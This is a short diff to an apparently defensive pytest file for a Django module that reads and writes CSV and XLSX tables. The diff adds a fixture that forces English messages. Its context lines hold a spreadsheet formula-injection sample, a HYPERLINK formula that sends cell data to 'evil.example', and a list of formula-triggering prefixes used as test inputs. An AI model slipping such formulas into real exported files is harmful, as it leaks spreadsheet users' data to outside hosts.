@@ -10,6 +10,15 @@ import pytest
 
 from documents.tables import UnreadableFile, csv_write, table_read, xlsx_write
 
+@pytest.fixture(autouse=True)
+def english():
+    """The messages are checked in English, whatever an earlier test left active."""
+    from django.utils import translation
+
+    with translation.override("en"):
+        yield
+
+
 EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
 STARTS = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
 
